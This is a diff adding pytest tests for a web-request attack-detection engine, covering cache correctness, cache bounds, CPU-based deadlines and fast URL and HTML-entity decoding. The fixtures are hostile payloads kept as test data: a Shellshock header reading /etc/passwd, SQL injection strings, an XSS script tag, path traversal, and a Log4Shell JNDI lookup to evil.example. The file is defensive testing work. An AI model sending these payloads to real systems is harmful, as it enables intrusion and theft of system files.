@@ -1,0 +1,137 @@
+"""The engine's shortcuts (verdict caches, cheap pre-filters, fast decoding paths) must give
+exactly the verdicts of the slow path, stay bounded, and not depend on the machine's load."""
+
+from __future__ import annotations
+
+import html
+import random
+
+import pytest
+
+from addon.protocol import RequestMessage
+from node.detect import decode
+from node.detect import engine as engine_mod
+from node.detect.engine import Engine
+
+ATTACK_UA = b"() { :; }; /bin/bash -c 'cat /etc/passwd'"
+ATTACK_COOKIE = b"session=abc; pref=' union select password from users--"
+
+
+@pytest.fixture(scope="module")
+def engine() -> Engine:
+    return Engine()
+
+
+def req(target: str = "/", headers: list | None = None, body: bytes = b"", ctype: str | None = None) -> RequestMessage:
+    h = [(b"Host", b"app.example"), (b"Accept", b"application/json")] + (headers or [])
+    if ctype:
+        h.append((b"Content-Type", ctype.encode()))
+    return RequestMessage("POST" if body else "GET", target, h, body)
+
+
+def _summary(det) -> tuple:  # type: ignore[no-untyped-def]
+    return det.is_attack, det.score, sorted((a.type, a.location, a.rule_id) for a in det.attacks)
+
+
+@pytest.mark.parametrize(
+    "msg",
+    [
+        req("/", [(b"User-Agent", ATTACK_UA)]),
+        req("/", [(b"Cookie", ATTACK_COOKIE)]),
+        req("/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
+        req("/api", body=b'{"name": "x\' or 1=1--"}', ctype="application/json"),
+        req("/api", body=b"a=1&b=..%2f..%2f..%2fetc%2fpasswd", ctype="application/x-www-form-urlencoded"),
+    ],
+)
+def test_a_cached_verdict_equals_a_fresh_one(engine: Engine, msg: RequestMessage) -> None:
+    fresh = _summary(Engine().analyze_request(msg))
+    assert fresh[0], "the case must be an attack for this test to mean anything"
+    first = _summary(engine.analyze_request(msg))
+    second = _summary(engine.analyze_request(msg))  # served from the unit caches
+    assert first == second == fresh
+
+
+def test_a_benign_line_does_not_hide_an_attack_elsewhere(engine: Engine) -> None:
+    ua = (b"User-Agent", b"Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0")
+    assert not engine.analyze_request(req("/", [ua])).is_attack
+    assert not engine.analyze_request(req("/", [ua])).is_attack
+    det = engine.analyze_request(req("/x?id=1%27%20or%20%271%27%3D%271", [ua]))
+    assert det.is_attack and det.attacks[0].location == "query.id"
+
+
+def test_the_same_attack_line_twice_is_reported_once(engine: Engine) -> None:
+    line = (b"X-Api", b"${jndi:ldap://evil.example/a}")
+    det = engine.analyze_request(req("/", [line, line]))
+    assert det.is_attack
+    assert len({(a.location, a.rule_id) for a in det.attacks}) == len(det.attacks)
+
+
+def test_caches_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(engine_mod, "MAX_UNIT_CACHE", 50)
+    monkeypatch.setattr(engine_mod, "MAX_CACHE", 40)
+    e = Engine()
+    for i in range(300):
+        e.analyze_request(req(f"/p/{i}?q=some+words+{i}", [(b"X-Trace", f"t-{i} (x; y)".encode())]))
+    assert len(e._unit_cache) <= 50
+    assert len(e._cache) <= 40
+    # evicted entries are judged again, with the same result
+    assert e.analyze_request(req("/", [(b"User-Agent", ATTACK_UA)])).is_attack
+
+
+def test_oversized_lines_are_judged_every_time_not_cached(engine: Engine) -> None:
+    big = b"x" * (engine_mod.MAX_CACHED_UNIT + 10) + b" <script>alert(1)</script>"
+    for _ in range(2):
+        assert engine.analyze_request(req("/", [(b"X-Big", big)])).is_attack
+    assert (b"X-Big", big) not in engine._unit_cache
+
+
+def test_deadline_counts_cpu_not_waiting(monkeypatch: pytest.MonkeyPatch) -> None:
+    """A request preempted on a busy machine (wall clock past the deadline, little CPU used)
+    is still judged completely: the verdict must not depend on the load."""
+    clock = {"wall": 1000.0}
+    monkeypatch.setattr(engine_mod.time, "perf_counter", lambda: clock["wall"])
+    e = Engine()
+    run = engine_mod._Run(e.threshold)
+    clock["wall"] += 5.0  # 5 s of wall clock passed, this thread used almost no CPU
+    assert not run.out_of_time()
+
+
+# ---------------------------------------------------------------------------- fast decoding
+
+
+def _legacy_entity_decode(value: str) -> str:
+    return html.unescape(value) if "&" in value else value
+
+
+@pytest.mark.parametrize("value", ["a=1&b=2&lt;x", "&ltscript&gt", "&notit;", "&#60&#x3c;", "&amp;lt;",
+                                   "&para=1&copy", "&AMP;&Amp;", "&#x110000;", "&unknown; &", "x&&y"])
+def test_entity_decode_equals_html_unescape(value: str) -> None:
+    assert decode.entity_decode(value) == html.unescape(value)
+
+
+def test_fast_paths_equal_the_full_decoder_on_random_values() -> None:
+    """url_decode's fast path, entity candidates and variants()' early return against a
+    reference built from the same primitives without the shortcuts."""
+    rng = random.Random(7)
+    atoms = ["%", "c0", "ae", "%u", "00", "3c", "e4", "b8", "ad", "ff", "&", "#", "x", ";", "lt", "amp",
+             "not", "60", "q", "\udcff", "中", "2e", "/", ".", "a", "=", "%25", "\\u003c", "para", " ",
+             "PHNjcmlwdD4=", "Jy1vciAxPTEtLQ==", "{", "}", "\"", ":", "0x2f", "\xa0", "\uff0f"]
+    for _ in range(20_000):
+        v = "".join(rng.choice(atoms) for _ in range(rng.randint(1, 10)))
+        assert decode.entity_decode(v) == _legacy_entity_decode(v), v
+        assert decode.variants(v)[0] == v
+        if not decode._DECODABLE_RE.search(v) and v[:1] not in "{[" and not decode._B64_WHOLE_RE.match(v):
+            assert decode.variants(v) == [v]
+
+
+def test_url_decode_fast_path_keeps_overlong_and_broken_handling() -> None:
+    assert decode.url_decode("%c0%ae%c0%ae%2f") == "../"
+    assert decode.url_decode("%e4%b8%ad%e6%96%87") == "中文"
+    assert decode.url_decode("a%u003cb") == "a<b"
+    assert decode.url_decode("x%ff%fe%41") == "x\xff\xfeA"
+
+
+def test_binary_lone_bytes_are_bounded() -> None:
+    blob = "%" + "\udcff\udcfe a " * 5000
+    out = decode.url_decode(blob)
+    assert out.count("\xff") == decode.MAX_LONE_BYTE_RUNS  # first runs mapped, rest kept
